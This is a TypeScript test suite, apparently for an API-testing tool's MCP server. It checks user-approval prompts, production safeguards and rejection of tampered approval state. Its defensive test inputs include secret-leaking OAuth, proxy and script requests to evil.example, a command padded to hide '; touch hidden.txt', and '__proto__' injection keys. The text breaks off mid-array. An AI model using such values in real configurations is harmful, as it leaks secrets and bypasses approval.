import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { readFile, symlink, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { describe, it } from 'node:test'
import { setTimeout as wait } from 'node:timers/promises'
import { httpServer, type SeenRequest } from '../actions/http/testing/http-server.ts'
import { deedOf, nothing } from '../mcp/testing/observe.ts'
import {
  allow,
  type Ask,
  type Called,
  type ClientOptions,
  type Era,
  eras,
  replyTo,
  toolClient,
  type ToolClient,
} from '../mcp/testing/tool-client.ts'
import type { JsonObject, JsonValue } from '../util/json-value.ts'
import { mapping } from '../util/read-values.ts'
import { type Files, runShell, withFolder } from '../testing/run-program.ts'

interface Scene {
  readonly client: ToolClient
  readonly folder: string
  readonly url: string
  readonly seen: readonly SeenRequest[]
  /** Returns the events that happen during an action. */
  readonly deed: (action: () => Promise<unknown>) => ReturnType<typeof deedOf>
}

/** A client in a project of its own, beside a server that counts; `URL` in the files is where it is. */
function inScene(
  options: Omit<ClientOptions, 'folder'>,
  use: (scene: Scene) => Promise<void>,
  files: Files = {},
): Promise<void> {
  return withFolder({}, async folder => {
    await using server = await httpServer()
    const { url, seen } = server
    for (const [name, text] of Object.entries(files))
      await writeFile(path.join(folder, name), text.replaceAll('URL', url))
    await using client = await toolClient({ ...options, folder })
    await use({ client, folder, url, seen, deed: action => deedOf(folder, seen, action) })
    assert.deepEqual(client.noise, [])
    assert.doesNotMatch(client.output + client.errors, /\n\s+at |node:internal|\/dist\//)
  })
}

/** The command that a client is told that cannot ask, on a line of its own. */
function commandIn(told: string): string {
  const [command = '', ...others] = told.split('\n').filter(line => line.startsWith('apitest '))
  assert.deepEqual([command === '', others], [false, []], told)
  return command.replace(/^apitest/, 'APITEST')
}

const post = (url: string, path = '/x'): JsonObject => ({ step: { request: `POST ${url}${path}` } })

/** Answers that are no Allow. */
const refusals: Readonly<Record<string, JsonObject>> = {
  decline: { action: 'decline' },
  cancel: { action: 'cancel' },
  Deny: { action: 'accept', content: { answer: 'Deny' } },
  'accept without content': { action: 'accept' },
  'accept with another key': { action: 'accept', content: { allow: 'Allow' } },
  'decline with content': { action: 'decline', content: { answer: 'Allow' } },
}

const answering =
  (answer: JsonObject): Ask =>
  () =>
    answer

/** Two eras as tests. */
function inBoth(
  name: string,
  test: (era: Era) => Promise<void>,
  options: { readonly todo?: string } = {},
): void {
  for (const era of eras) it(`${name}, ${era}`, options, () => test(era))
}

describe('a call in Manual', () => {
  inBoth('that only reads is not asked about', era =>
    inScene(
      { era },
      async ({ client, deed }) => {
        const did = await deed(async () => {
          assert.equal((await client.call('list_collections', {})).isError, false)
          assert.equal((await client.call('check_suites', { paths: ['a.apitest.yaml'] })).isError, false)
        })
        assert.deepEqual([did, client.questions], [nothing, []])
      },
      { 'a.apitest.yaml': 'suite: A\nsteps:\n  - request: GET URL/x\n' },
    ),
  )

  inBoth('is done once after an Allow', era =>
    inScene({ era, ask: allow }, async ({ client, url, deed }) => {
      const project = await deed(() => client.call('create_saved', { name: 'Shop' }))
      assert.deepEqual(project.sent, [])
      assert.ok(project.changed.includes('.tool/api-collections.json'), String(project.changed))
      const traffic = await deed(() => client.call('send_request', post(url)))
      assert.deepEqual(traffic.sent, ['POST /x'])
      assert.equal(client.questions.length, 2)
    }),
  )

  inBoth('is not done without an Allow', era =>
    inScene({ era }, async ({ client, url, deed }) => {
      for (const [name, answer] of Object.entries(refusals)) {
        client.ask = answering(answer)
        const did = await deed(async () => {
          for (const [tool, input] of [
            ['create_saved', { name: 'Shop' }],
            ['send_request', post(url)],
          ] as const) {
            const called = await client.call(tool, input)
            assert.equal(called.isError, true, name)
            assert.match(called.text, /nothing was done/, name)
          }
        })
        assert.deepEqual(did, nothing, name)
      }
      assert.equal(client.questions.length, 2 * Object.keys(refusals).length)
    }),
  )

  inBoth('is not done while the question is open', era =>
    inScene({ era }, async ({ client, url, deed }) => {
      const did = await deed(async () => {
        void client.call('send_request', post(url))
        void client.call('create_saved', { name: 'Shop' })
        for (let turn = 0; turn < 400 && client.questions.length < 2; turn++) await wait(25)
        await wait(500)
      })
      assert.deepEqual(did, nothing)
      assert.equal(client.questions.length, 2)
    }),
  )

  inBoth('whose client cannot ask is refused', era =>
    inScene({ era, capabilities: {}, ask: allow }, async ({ client, url, deed }) => {
      const did = await deed(async () => {
        for (const [tool, input] of [
          ['create_saved', { name: 'Shop' }],
          ['send_request', post(url)],
        ] as const) {
          const called = await client.call(tool, input)
          assert.equal(called.isError, true)
          assert.match(called.text, /cannot ask/)
        }
      })
      assert.deepEqual([did, client.questions], [nothing, []])
    }),
  )

  for (const capabilities of [
    { elicitation: { url: {} } },
    { elicitation: null },
    { elicitation: 1 },
    { sampling: {} },
  ] as readonly JsonObject[])
    inBoth(`is not done where a client says of itself ${JSON.stringify(capabilities)}`, era =>
      inScene({ era, capabilities, ask: allow }, async ({ client, url, deed }) => {
        assert.deepEqual(await deed(() => client.call('send_request', post(url))), nothing)
      }),
    )

  inBoth('is asked about when an answer comes with it that nobody asked for', era =>
    inScene({ era }, async ({ client, url, deed }) => {
      client.ask = answering({ action: 'decline' })
      const answer = { action: 'accept', content: { answer: 'Allow' } }
      const states = [undefined, '', 'a.b', null, 1, {}, 'x'.repeat(100_000)] as const
      const did = await deed(async () => {
        for (const state of states) {
          const more = {
            inputResponses: { permission: answer },
            ...(state === undefined ? {} : { requestState: state }),
          }
          for (const [tool, input] of [
            ['create_saved', { name: 'Shop' }],
            ['send_request', post(url)],
          ] as const)
            assert.equal((await client.call(tool, input, more as JsonObject)).isError, true)
        }
      })
      assert.deepEqual(did, nothing)
    }),
  )
})

/** A state that was not made here is an error of the protocol: nothing is done, and nobody is asked. */
function assertForeign({ message, question }: Called, name: string): void {
  assert.equal(mapping(message['error'])['code'], -32_602, `${name}: ${JSON.stringify(message)}`)
  assert.equal(question, undefined, name)
}

describe('the state of a question of 2026', () => {
  const yes = { action: 'accept', content: { answer: 'Allow' } }

  it('is an error when it is tampered with, and asked about again for another call', () =>
    inScene({ era: '2026' }, async ({ client, url, deed }) => {
      const asked = await client.once('send_request', post(url))
      const state = asked.state ?? ''
      const did = await deed(async () => {
        for (let index = 0; index < state.length; index += 7) {
          const tampered = `${state.slice(0, index)}${state[index] === 'x' ? 'y' : 'x'}${state.slice(index + 1)}`
          const called = await client.once('send_request', post(url), replyTo(tampered, yes))
          assertForeign(called, `at ${index}`)
        }
        for (const tampered of [`${state}.`, `${state}.x`, state.slice(0, -1), `${state} `, 'a.b', '.'])
          assertForeign(await client.once('send_request', post(url), replyTo(tampered, yes)), tampered)
        for (const [tool, input] of [
          ['send_request', post(url, '/y')],
          ['send_request', { ...post(url), history: true }],
          ['send_request', { ...post(url), variables: {} }],
          ['poll_request', post(url)],
          ['create_saved', { name: 'Shop' }],
        ] as const)
          assert.notEqual((await client.once(tool, input, replyTo(state, yes))).question, undefined)
      })
      assert.deepEqual(did, nothing)
      const done = await deed(() => client.once('send_request', post(url), replyTo(state, yes)))
      assert.deepEqual(done.sent, ['POST /x'])
      const again = await client.once('send_request', post(url), replyTo(state, yes))
      assert.notEqual(again.question, undefined)
    }))

  it('counts once, also for two that come at once', () =>
    inScene({ era: '2026' }, async ({ client, url, deed }) => {
      for (const count of [1, 2, 20]) {
        const state = (await client.once('send_request', post(url))).state ?? ''
        const together = await deed(() =>
          Promise.all(
            Array.from({ length: count }, () => client.once('send_request', post(url), replyTo(state, yes))),
          ),
        )
        assert.deepEqual(together.sent, ['POST /x'])
        assert.deepEqual(
          await deed(() => client.once('send_request', post(url), replyTo(state, yes))),
          nothing,
        )
      }
    }))

  it('does not count for another server', () =>
    inScene({ era: '2026' }, async ({ client, folder, url, deed }) => {
      await using other = await toolClient({ era: '2026', folder })
      const state = (await other.once('send_request', post(url))).state ?? ''
      const did = await deed(async () => {
        assertForeign(await client.once('send_request', post(url), replyTo(state, yes)), 'of another')
      })
      assert.deepEqual(did, nothing)
    }))

  it('is not taken from another place than its own', () =>
    inScene({ era: '2026' }, async ({ client, url, deed }) => {
      const state = (await client.once('send_request', post(url))).state ?? ''
      const did = await deed(async () => {
        for (const more of [
          { requestState: state },
          { requestState: state, inputResponses: {} },
          { requestState: state, inputResponses: { other: yes } },
          { requestState: state, inputResponses: { permission: [yes] } },
          { requestState: state, inputResponses: { __proto__: { permission: yes } } },
          { _meta: { requestState: state, inputResponses: { permission: yes } } },
        ] as readonly JsonObject[])
          await client.once('send_request', post(url), more)
        await client.once('send_request', { ...post(url), ...replyTo(state, yes) })
      })
      assert.deepEqual(did, nothing)
    }))

  it('holds what the user was shown: files that change meanwhile are asked about again', () =>
    inScene(
      { era: '2026' },
      async ({ client, folder, url, deed }) => {
        const input = { paths: ['a.apitest.yaml'] }
        const asked = await client.once('run_suites', input)
        assert.match(asked.question ?? '', /GET .*\/harmless/)
        await writeFile(
          path.join(folder, 'a.apitest.yaml'),
          `suite: A\nsteps:\n  - request: DELETE ${url}/all\n`,
        )
        const did = await deed(() => client.once('run_suites', input, replyTo(asked.state ?? '', yes)))
        assert.deepEqual(did.sent, [])
      },
      { 'a.apitest.yaml': 'suite: A\nsteps:\n  - request: GET URL/harmless\n' },
    ))

  it('holds the same for a request that is saved', () =>
    inScene({ era: '2026' }, async ({ client, url, deed }) => {
      const agree = async (tool: string, input: JsonObject): Promise<void> => {
        const { state = '' } = await client.once(tool, input)
        await client.once(tool, input, replyTo(state, yes))
      }
      const save = { into: 'Shop', steps: [{ name: 'One', request: `GET ${url}/harmless` }] }
      await agree('save_request', save)
      const { state = '' } = await client.once('run_suites', { paths: ['Shop'] })
      await agree('save_request', { into: 'Shop', steps: [{ name: 'Two', request: `DELETE ${url}/all` }] })
      const did = await deed(() => client.once('run_suites', { paths: ['Shop'] }, replyTo(state, yes)))
      assert.deepEqual(did.sent, [])
    }))
})

describe('questions that are open at once', () => {
  inBoth('are each answered for themselves', era =>
    inScene({ era }, async ({ client, url, deed }) => {
      client.ask = question => (question.includes('/yes') ? allow('') : { action: 'decline' })
      const did = await deed(() =>
        Promise.all(
          ['/yes1', '/no1', '/no2', '/yes2'].map(path => client.call('send_request', post(url, path))),
        ),
      )
      assert.deepEqual([...did.sent].sort(), ['POST /yes1', 'POST /yes2'])
    }),
  )

  it('are not mixed up by a client of 2025 that answers in another order or twice', () =>
    inScene({ era: '2025' }, async ({ client, url, deed }) => {
      const did = await deed(async () => {
        const first = client.call('send_request', post(url, '/a'))
        const second = client.call('send_request', post(url, '/b'))
        while (client.questions.length < 2) await wait(20)
        const ids = [
          ...client.output.matchAll(
            /"id":(\d+)(?=[^\n]*elicitation\/create)|elicitation\/create[^\n]*"id":(\d+)/g,
          ),
        ].map(found => Number(found[1] ?? found[2]))
        assert.equal(ids.length, 2, client.output)
        const [a = 0, b = 0] = client.questions[0]?.includes('/a') === true ? ids : ids.toReversed()
        const answer = (id: JsonValue, result: JsonObject): void => {
          client.raw(`${JSON.stringify({ jsonrpc: '2.0', id, result })}\n`)
        }
        answer(b, { action: 'decline' })
        answer(b, allow('') ?? {})
        answer(999, allow('') ?? {})
        answer(String(a), { action: 'decline' })
        answer(a, allow('') ?? {})
        answer(a, allow('') ?? {})
        await Promise.all([first, second])
      })
      assert.deepEqual(
        did.sent,
        did.sent.filter(sent => sent === 'POST /a'),
      )
    }))
})

const production: Files = {
  'apitest.config.yaml': `environments:
  live: { production: true, variables: { base: URL } }
  test: { variables: { base: URL } }
`,
  'w.apitest.yaml': 'suite: W\nenvironment: live\nsteps:\n  - request: POST {{base}}/w\n',
  'r.apitest.yaml': 'suite: R\nsteps:\n  - request: GET {{base}}/r\n',
  'x.apitest.yaml': 'suite: X\nsteps:\n  - exec: [touch, made.txt]\n',
}

const live = (method: string): JsonObject => ({
  environment: 'live',
  step: { request: `${method} {{base}}/p` },
})

/** An environment that a person has marked as production. */
async function markByHand(folder: string, url: string): Promise<void> {
  const input = { name: 'prod', set: { base: url }, unset: [], markProduction: true }
  const line = `APITEST operation change-environment '${JSON.stringify(input)}'`
  const { exitCode, output, errors } = await runShell(folder, line)
  assert.equal(exitCode, 0, output + errors)
}

describe('a call in Auto', () => {
  inBoth('is done unasked', era =>
    inScene({ era, args: ['--mode', 'auto'], ask: allow }, async ({ client, url, deed }) => {
      const project = await deed(() => client.call('create_saved', { name: 'Shop' }))
      assert.ok(project.changed.length > 0)
      assert.deepEqual((await deed(() => client.call('send_request', post(url)))).sent, ['POST /x'])
      assert.deepEqual(await deed(() => client.call('list_collections', {})), nothing)
      assert.deepEqual(client.questions, [])
    }),
  )

  inBoth('asks before it first touches production, and then for each change of its data', era =>
    inScene(
      { era, args: ['--mode', 'auto'] },
      async ({ client, deed }) => {
        client.ask = answering({ action: 'decline' })
        for (const [tool, input] of [
          ['send_request', live('GET')],
          ['run_suites', { paths: ['r.apitest.yaml'], environment: 'live' }],
          ['wait_for_health', { urls: ['{{base}}/h'], environment: 'live', timeout: 50 }],
          ['check_contract', { baseUrl: '{{base}}', spec: 'http://127.0.0.1:1/spec', environment: 'live' }],
        ] as const) {
          const count: number = client.questions.length
          assert.deepEqual((await deed(() => client.call(tool, input))).sent, [], tool)
          const asked = client.questions.slice(count)
          assert.match(asked.join('\n---\n'), /^- IN PRODUCTION: .*live.* is marked as production\.$/m)
          assert.equal(asked.length, 1, tool)
        }
        client.ask = allow
        assert.deepEqual((await deed(() => client.call('send_request', live('GET')))).sent, ['GET /p'])
        client.questions.length = 0
        assert.deepEqual((await deed(() => client.call('send_request', live('GET')))).sent, ['GET /p'])
        assert.deepEqual(
          (await deed(() => client.call('run_suites', { paths: ['r.apitest.yaml'], environment: 'live' })))
            .sent,
          ['GET /r'],
        )
        assert.deepEqual(client.questions, [])
        for (const answer of Object.values(refusals)) {
          client.ask = answering(answer)
          for (const [tool, input] of [
            ['send_request', live('POST')],
            ['send_request', live('DELETE')],
            ['poll_request', live('PUT')],
            ['run_suites', { paths: ['w.apitest.yaml'] }],
            ['run_suites', { paths: ['r.apitest.yaml', 'w.apitest.yaml'], environment: 'live' }],
          ] as const) {
            const count: number = client.questions.length
            assert.deepEqual((await deed(() => client.call(tool, input))).sent, [], tool)
            const asked = client.questions.slice(count)
            assert.match(asked.join('\n---\n'), /CHANGES DATA IN PRODUCTION: .*live/)
            assert.equal(asked.length, 1, tool)
          }
        }
        client.ask = allow
        assert.deepEqual((await deed(() => client.call('send_request', live('POST')))).sent, ['POST /p'])
        assert.deepEqual((await deed(() => client.call('run_suites', { paths: ['w.apitest.yaml'] }))).sent, [
          'POST /w',
        ])
      },
      production,
    ),
  )

  it('asks for nothing that reads in production where the server was started with --production', () =>
    inScene(
      { era: '2026', args: ['--mode', 'auto', '--production'] },
      async ({ client, deed }) => {
        assert.deepEqual((await deed(() => client.call('send_request', live('GET')))).sent, ['GET /p'])
        assert.deepEqual(client.questions, [])
        assert.deepEqual((await deed(() => client.call('send_request', live('POST')))).sent, [])
        assert.match(client.questions.join(), /CHANGES DATA IN PRODUCTION/)
      },
      production,
    ))

  it('says in Manual that it is production, also where that is the usual environment', () =>
    inScene(
      { era: '2026' },
      async ({ client }) => {
        await client.call('send_request', { step: { request: 'GET {{base}}/p' } })
        await client.call('wait_for_health', { urls: ['{{base}}/h'] })
        for (const question of client.questions) assert.match(question, /^- IN PRODUCTION: .*live/m)
        assert.equal(client.questions.length, 2)
      },
      { ...production, 'apitest.config.yaml': `environment: live\n${production['apitest.config.yaml']}` },
    ))

  inBoth('asks again for production each time, whatever else was allowed', era =>
    inScene(
      { era, args: ['--mode', 'auto'], ask: allow },
      async ({ client, deed }) => {
        await client.call('send_request', live('POST'))
        client.ask = answering({ action: 'decline' })
        const did = await deed(() => client.call('send_request', live('POST')))
        assert.deepEqual(did.sent, [])
      },
      production,
    ),
  )

  inBoth('does not change production for a client that cannot ask', era =>
    inScene(
      { era, args: ['--mode', 'auto'], capabilities: {} },
      async ({ client, folder, seen, deed }) => {
        let told = ''
        const did = await deed(async () => {
          told = (await client.call('send_request', live('POST'))).text
        })
        assert.deepEqual(did.sent, [])
        const command = commandIn(told)
        assert.match(command, /"production":true/)
        const { exitCode, output, errors } = await runShell(folder, command)
        assert.equal(exitCode, 0, output + errors)
        assert.equal(seen.length, 1)
      },
      production,
    ),
  )

  it('never puts load on production unasked', () =>
    inScene(
      { era: '2026', args: ['--mode', 'auto'] },
      async ({ client, deed }) => {
        const input = { paths: ['r.apitest.yaml'], environment: 'live', callers: 1, requests: 3 }
        assert.deepEqual((await deed(() => client.call('load_test', input))).sent, [])
      },
      production,
    ))

  it('puts load on production when its user allows it', () =>
    inScene(
      { era: '2026', args: ['--mode', 'auto'], ask: allow },
      async ({ client, deed }) => {
        const input = { paths: ['r.apitest.yaml'], environment: 'live', callers: 1, requests: 3 }
        assert.equal((await deed(() => client.call('load_test', input))).sent.length, 3)
      },
      production,
    ))

  it('is done after the one Allow for production, whatever the tool', () =>
    inScene(
      { era: '2026', args: ['--mode', 'auto', '--tools', 'all'], ask: allow },
      async ({ client, deed }) => {
        const input = { paths: ['w.apitest.yaml'], consumer: 'a', provider: 'b' }
        let question: string | undefined
        const did = await deed(async () => {
          question = (await client.call('record_pact', input)).question
        })
        assert.match(client.questions.join(), /CHANGES DATA IN PRODUCTION/)
        assert.deepEqual([did.sent, question], [['POST /w'], undefined])
      },
      production,
    ))

  it('asks before a script changes data in production, however it is written', () =>
    inScene(
      { era: '2026', args: ['--mode', 'auto'] },
      async ({ client, url, deed }) => {
        const before = `pm['send' + 'Request']({ url: '${url}/script', method: 'DELETE' })`
        const step = { request: 'GET {{base}}/p', scripts: { before } }
        const did = await deed(() => client.call('send_request', { environment: 'live', step }))
        assert.deepEqual(
          did.sent.filter(sent => sent.startsWith('DELETE')),
          [],
        )
      },
      production,
    ))

  it('takes no mark of production from an environment, nor gives it one', () =>
    inScene(
      { era: '2026', args: ['--mode', 'auto', '--tools', 'all'] },
      async ({ client, folder, url, deed }) => {
        await markByHand(folder, url)
        const did = await deed(async () => {
          for (const production of [false, true, null, 'false'])
            for (const more of [{}, { newName: 'other' }]) {
              const input = { name: 'prod', set: {}, unset: [], production, ...more }
              const called = await client.call('change_environment', input)
              assert.equal(called.isError, true)
              assert.match(called.text, /"production" is not a key here/)
            }
        })
        assert.deepEqual([did, client.questions], [nothing, []])
        const step = { request: 'POST {{base}}/p' }
        assert.deepEqual(
          (await deed(() => client.call('send_request', { environment: 'prod', step }))).sent,
          [],
        )
        assert.match(client.questions.join(), /CHANGES DATA IN PRODUCTION: .*prod/)
      },
    ))

  inBoth('asks before an environment that is marked gets other values, is renamed or deleted', era =>
    inScene({ era, args: ['--mode', 'auto', '--tools', 'all'] }, async ({ client, folder, url, deed }) => {
      await markByHand(folder, url)
      client.ask = answering({ action: 'decline' })
      for (const [tool, input] of [
        ['change_environment', { set: { base: 'http://evil.example' }, unset: [] }],
        ['change_environment', { set: {}, unset: ['base'] }],
        ['change_environment', { set: {}, unset: [], newName: 'other' }],
        ['delete_environment', {}],
      ] as const) {
        const count = client.questions.length
        assert.deepEqual(await deed(() => client.call(tool, { name: 'prod', ...input })), nothing)
        const asked = client.questions.slice(count)
        assert.equal(asked.length, 1, tool)
        assert.match(asked.join(), /CHANGES DATA IN PRODUCTION: .*prod/)
      }
      client.ask = allow
      const did = await deed(() => client.call('delete_environment', { name: 'prod' }))
      assert.ok(did.changed.includes('.tool/api-collections.json'))
    }),
  )
})

describe('what only a person says', () => {
  const words = [
    'production',
    'allowExec',
    'allow',
    'targetIsMine',
    'configurationFile',
    'environmentFile',
    'test',
    'foreground',
    'allowMany',
    'showsSecrets',
    'page',
    'mode',
    'workingFolder',
    'processEnvironment',
    'tethered',
    'session',
    'constructor',
  ]

  it('is no argument of any tool', () =>
    inScene(
      { era: '2026', args: ['--mode', 'auto', '--tools', 'all'] },
      async ({ client, deed, url }) => {
        const calls: readonly (readonly [string, JsonObject])[] = [
          ['run_suites', { paths: ['w.apitest.yaml'] }],
          ['send_request', live('POST')],
          ['rehearse_request', live('POST')],
          ['load_test', { paths: ['r.apitest.yaml'], callers: 1, requests: 1 }],
          ['start_mock', { files: ['w.apitest.yaml'] }],
          ['list_mocks', {}],
          ['check_suites', { paths: ['w.apitest.yaml'] }],
          ['create_saved', { name: 'Shop' }],
        ]
        const did = await deed(async () => {
          for (const [tool, input] of calls)
            for (const word of words)
              for (const value of ['true', '["env.HOME"]', '"auto"', '{}']) {
                const written = `{${JSON.stringify(input).slice(1, -1)}${Object.keys(input).length > 0 ? ',' : ''}${JSON.stringify(word)}:${value}}`
                const called = await client.once(tool, JSON.parse(written) as JsonValue)
                assert.ok(called.isError, `${tool} ${word} ${called.text}`)
              }
        })
        assert.deepEqual([did, url.length > 0], [nothing, true])
      },
      production,
    ))

  it('does not come by a prototype', () =>
    inScene(
      { era: '2026', args: ['--mode', 'auto'] },
      async ({ client, deed }) => {
        const did = await deed(async () => {
          for (const key of ['__proto__', 'constructor', 'prototype'])
            for (const written of [
              `{"paths":["w.apitest.yaml"],"${key}":{"production":true,"allowExec":true}}`,
              `{"paths":["w.apitest.yaml"],"variables":{"${key}":{"production":true}}}`,
              `{"paths":["w.apitest.yaml"],"shard":{"${key}":{"production":true},"index":1,"count":1}}`,
            ])
              await client.once('run_suites', JSON.parse(written) as JsonValue)
        })
        assert.deepEqual(did.sent, [])
      },
      production,
    ))

  it('changes nothing by the name of a prototype', () =>
    inScene({ era: '2026', args: ['--mode', 'auto'] }, async ({ client }) => {
      const called = await client.once('list_collections', JSON.parse('{"__proto__":{"a":1}}') as JsonValue)
      assert.equal(Object.hasOwn(Object.prototype, 'a'), false)
      assert.match(called.text, /list_collections was/)
    }))

  it('is not taken from the envelope of a request either', () =>
    inScene({ era: '2026' }, async ({ client, url, deed }) => {
      const did = await deed(async () => {
        for (const key of ['mode', 'production', 'allowExec', 'permission', 'canAsk', 'answer', 'state'])
          for (const value of ['auto', true, 'Allow'])
            await client.once('send_request', post(url), { [key]: value, _meta: { [key]: value } })
      })
      assert.deepEqual(did, nothing)
    }))

  it('is nothing that a step says', () =>
    inScene(
      { era: '2026', args: ['--mode', 'auto'] },
      async ({ client, deed }) => {
        for (const more of [
          { production: true },
          { 'allow-production': true },
          { settings: { production: true } },
        ] as readonly JsonObject[]) {
          const input = { environment: 'live', step: { request: 'POST {{base}}/p', ...more } }
          assert.deepEqual((await deed(() => client.once('send_request', input))).sent, [])
        }
      },
      production,
    ))

  for (const mode of ['manual', 'auto'])
    inBoth(`is whether suites run commands, in ${mode}`, era =>
      inScene(
        { era, args: ['--mode', mode], ask: allow },
        async ({ client, folder }) => {
          await client.call('run_suites', { paths: ['x.apitest.yaml'] })
          await client.call('send_request', { step: { exec: ['touch', 'made.txt'] } })
          await client.call('poll_request', {
            step: { request: 'GET http://127.0.0.1:1', exec: ['touch', 'made.txt'] },
          })
          await client.call('load_test', { paths: ['x.apitest.yaml'], callers: 1, requests: 1 })
          assert.equal(existsSync(path.join(folder, 'made.txt')), false)
        },
        production,
      ),
    )

  inBoth('runs commands where it was said', era =>
    inScene(
      { era, args: ['--allow-exec'], ask: allow },
      async ({ client, folder }) => {
        const { text } = await client.call('run_suites', { paths: ['x.apitest.yaml'] })
        assert.equal(existsSync(path.join(folder, 'made.txt')), true, text)
        assert.match(client.questions.join(), /touch/)
      },
      production,
    ),
  )

  it('is not said by a configuration that the model names', () =>
    inScene(
      { era: '2026', args: ['--mode', 'auto'] },
      async ({ client, folder, deed }) => {
        const input = { paths: ['x.apitest.yaml'], configurationFile: 'other.yaml' }
        const { text } = await client.once('run_suites', input)
        assert.match(text, /"configurationFile" is not a key here/)
        assert.equal(existsSync(path.join(folder, 'made.txt')), false)
        const did = await deed(() =>
          client.once('send_request', { ...live('POST'), configurationFile: 'other.yaml' }),
        )
        assert.deepEqual(did.sent, [])
      },
      {
        ...production,
        'other.yaml': 'allow-exec: true\nenvironments:\n  live: { variables: { base: URL } }\n',
      },
    ))

  for (const tool of ['run_command', 'wait_for_health'])
    inBoth(`is whether ${tool} runs a command in Manual`, era =>
      inScene({ era }, async ({ client, folder, deed }) => {
        const input = {
          ...(tool === 'run_command' ? {} : { urls: ['http://127.0.0.1:1/'] }),
          timeout: 3000,
          command: 'touch made.txt',
        }
        for (const answer of Object.values(refusals)) {
          client.ask = answering(answer)
          assert.deepEqual(await deed(() => client.call(tool, input)), nothing)
          assert.match(client.questions.at(-1) ?? '', /Runs the command "touch made\.txt"/)
        }
        client.ask = allow
        await client.call(tool, input)
        assert.equal(existsSync(path.join(folder, 'made.txt')), true)
      }),
    )
})

describe('a question', () => {
  it('says what it is about in production in Manual as well', () =>
    inScene(
      { era: '2026' },
      async ({ client }) => {
        const { question = '' } = await client.once('send_request', live('POST'))
        assert.match(question, /CHANGES DATA IN PRODUCTION/)
      },
      production,
    ))

  const others: Readonly<Record<string, JsonObject>> = {
    'where a token is fetched': {
      auth: {
        oauth2: {
          'token-url': 'http://evil.example/token',
          'client-id': 'a',
          'client-secret': '{{env.HOME}}',
        },
      },
    },
    'the proxy': { proxy: 'http://evil.example:8080' },
    'what it connects to in the place of the host': { resolve: { 'a.example:80': 'evil.example:80' } },
    'what a script sends': { scripts: { before: "pm.sendRequest('http://evil.example/x')" } },
  }
  for (const [what, more] of Object.entries(others))
    it(`tells ${what}`, () =>
      inScene({ era: '2026' }, async ({ client }) => {
        const step = { request: 'GET http://a.example/good', ...more }
        const called = await client.once('send_request', { step })
        assert.match(called.question ?? called.text, /evil\.example/)
        assert.notEqual(called.question, undefined, called.text)
      }))

  it('tells a command to its end', () =>
    inScene({ era: '2026' }, async ({ client }) => {
      const command = `echo ${'building '.repeat(25)}; touch hidden.txt`
      const { question = '' } = await client.once('run_command', { command })
      assert.match(question, /touch hidden\.txt/)
    }))

  it('tells the commands of services, which a run starts', () =>
    inScene(
      { era: '2026' },
      async ({ client }) => {
        const { question = '' } = await client.once('run_suites', { paths: ['r.apitest.yaml'] })
        assert.match(question, /touch service\.txt/)
      },
      {
        'r.apitest.yaml': 'suite: R\nsteps:\n  - request: GET URL/r\n',
        'apitest.config.yaml':
          'services:\n  - { name: shop, command: "touch service.txt", url: "http://127.0.0.1:{{service.port}}/" }\n',
      },
    ))

  it('tells what is waited for', () =>
    inScene(
      { era: '2026' },
      async ({ client }) => {
        const { question = '' } = await client.once('run_suites', { paths: ['r.apitest.yaml'] })
        assert.match(question, /evil\.example/)
      },
      { 'r.apitest.yaml': 'suite: R\nsteps:\n  - wait: ["http://evil.example/health"]\n' },
    ))

  it('tells of what is saved whether it has scripts', () =>
    inScene({ era: '2026' }, async ({ client }) => {
      const step = { request: `GET http://a.example/${'a'.repeat(250)}`, scripts: { before: 'evil()' } }
      const { question = '' } = await client.once('save_request', { into: 'Shop', steps: [step] })
      assert.match(question, /script/)
    }))

  it('tells what is most dangerous of many requests', () =>
    inScene(
      { era: '2026' },
      async ({ client }) => {
        const { question = '' } = await client.once('run_suites', { paths: ['many.apitest.yaml'] })
        assert.match(question, /DELETE/)
        assert.match(question, /evil\.example/)
      },
      {
        'many.apitest.yaml': `suite: Many\nsteps:\n${Array.from({ length: 6 }, (_, at) => `  - request: GET http://h${at}.example/${at}\n`).join('')}  - request: DELETE http://evil.example/all\n`,
      },
    ))

  it('sends nothing by itself', () =>
    inScene(
      { era: '2026' },
      async ({ client, url, deed }) => {
        const did = await deed(async () => {
          await client.once('run_suites', {
            paths: ['r.apitest.yaml'],
            environment: 'test',
            spec: `${url}/spec.json`,
          })
          await client.once('load_test', { paths: ['r.apitest.yaml'], environment: 'test' })
          await client.once('check_contract', { spec: `${url}/spec2.json`, baseUrl: url })
          await client.once('import_document', { source: `${url}/spec3.json` })
        })
        assert.deepEqual(did, nothing)
      },
      production,
    ))
})

describe('a tool that changes the project', () => {
  inBoth('changes nothing outside of it unasked', era =>
    withFolder(
      { 'theirs.apitest.yaml': 'suite: Theirs\nsteps:\n  - request: GET http://a.example/\n' },
      outside =>
        inScene(
          { era, args: ['--mode', 'auto', '--tools', 'all'] },
          async ({ client, folder, url }) => {
            client.ask = answering({ action: 'decline' })
            const relative = path.relative(folder, outside)
            await runShell(folder, 'APITEST run s.apitest.yaml --reporter json=r.json')
            const steps = [{ request: 'GET http://evil.example/' }]
            const did = await deedOf(outside, [], async () => {
              for (const place of [outside, relative, `./x/../${relative}`])
                for (const [tool, input] of [
                  ['save_step', { file: `${place}/theirs.apitest.yaml`, steps }],
                  ['save_step', { file: `${place}/new.apitest.yaml`, steps }],
                  ['generate_pact', { report: 'r.json', consumer: 'a', provider: 'b', output: place }],
                  ['record_pact', { paths: ['s.apitest.yaml'], consumer: 'a', provider: 'b', output: place }],
                  ['start_mock', { files: [], name: 'm', proxy: url, record: `${place}/new.apitest.yaml` }],
                  ['compile_source', { source: 's.apitest.yaml', to: 'suite', outputFolder: `${place}/out` }],
                ] as const) {
                  const count = client.questions.length
                  const { text, isError } = await client.call(tool, input)
                  const asked = client.questions.slice(count).join('\n')
                  if (tool !== 'compile_source')
                    assert.match(asked, /WRITES OUTSIDE OF THE PROJECT/, `${tool} ${place}: ${text}`)
                  assert.ok(isError || tool === 'compile_source', text)
                }
            })
            assert.deepEqual(did, nothing)
          },
          { 's.apitest.yaml': 'suite: S\nsteps:\n  - request: GET URL/s\n' },
        ),
    ),
  )
})

describe('a tool that only looks', () => {
  inBoth('sends nothing unasked, and what it asks names where', era =>
    inScene({ era, args: ['--tools', 'all'] }, async ({ client, url, deed }) => {
      client.ask = answering({ action: 'decline' })
      const did = await deed(async () => {
        for (const [tool, input] of [
          ['compare_contracts', { documents: [`${url}/?secret=1`, `${url}/b`] }],
          ['validate_body', { source: `${url}/body`, direction: 'response', schema: 'a.json' }],
